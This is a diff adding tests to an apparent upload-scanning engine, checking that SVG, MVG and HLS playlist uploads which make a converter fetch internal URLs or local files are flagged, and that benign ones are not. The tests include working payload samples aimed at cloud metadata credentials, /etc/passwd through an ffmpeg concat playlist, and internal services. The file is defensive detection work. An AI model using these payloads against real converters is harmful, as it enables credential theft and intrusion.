@@ -152,6 +152,31 @@ describe('image-converter exploits in uploads (ImageTragick, Ghostscript)', () =
   });
 });
 
+describe('uploads that make the converter fetch (SSRF and local files through SVG, MVG and HLS)', () => {
+  const uploaded = uploadMatches(1);
+  const svg = (href: string): string =>
+    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="400" height="400">\n  <image xlink:href="${href}" width="400" height="400"/>\n</svg>`;
+  const mvg = (line: string): string => `push graphic-context\nviewbox 0 0 640 480\n${line}\npop graphic-context`;
+  const playlist = (entry: string): string => `#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\n${entry}\n#EXT-X-ENDLIST`;
+
+  it('reads the URLs an SVG image, an MVG fill or a playlist entry fetches, whatever the file is named', () => {
+    expect(uploaded('logo.svg', 'image/svg+xml', svg('http://169.254.169.254/latest/meta-data/iam/security-credentials/'))).toContain('Ssrf@upload');
+    expect(uploaded('logo.svg', 'image/svg+xml', svg('http://0xa9fea9fe/latest/meta-data/'))).toContain('Ssrf@upload');
+    expect(uploaded('me.jpg', 'image/jpeg', mvg(`fill 'url(http://127.0.0.1:8080/manager/html")'`))).toContain('Ssrf@upload');
+    expect(uploaded('clip.avi', 'video/x-msvideo', playlist('concat:http://203.0.113.77/header.m3u8|file:///etc/passwd'))).toContain('Ssrf@upload');
+    expect(uploaded('clip.mp4', 'video/mp4', playlist('http://10.0.0.12:9200/_cat/indices'))).toContain('Ssrf@upload');
+    expect(uploaded('map.svg', 'image/svg+xml', svg('file:///C:/Windows/win.ini'))).toContain('Ssrf@upload');
+  });
+
+  it('leaves public URLs, namespaces, links in text and drawings linked to a file of their own alone', () => {
+    expect(uploaded('logo.svg', 'image/svg+xml', svg('https://cdn.example.com/a.png'))).toEqual([]);
+    expect(uploaded('logo.svg', 'image/svg+xml', svg('file:///home/anna/Pictures/texture.png'))).toEqual([]);
+    const notes = '<svg xmlns="http://www.w3.org/2000/svg"><text x="0" y="20">router admin: http://192.168.1.1/ (metadata at 169.254.169.254)</text></svg>';
+    expect(uploaded('diagram.svg', 'image/svg+xml', notes)).toEqual([]);
+    expect(uploaded('live.m3u8', 'application/vnd.apple.mpegurl', playlist('https://media.example.com/seg-001.ts'))).toEqual([]);
+  });
+});
+
 describe('files written by HTTP itself (PUT, and WebDAV MOVE or COPY)', () => {
   const engine = createAnalysisEngine({ catalog: false, detectionLevel: 1 });
   let n = 0;
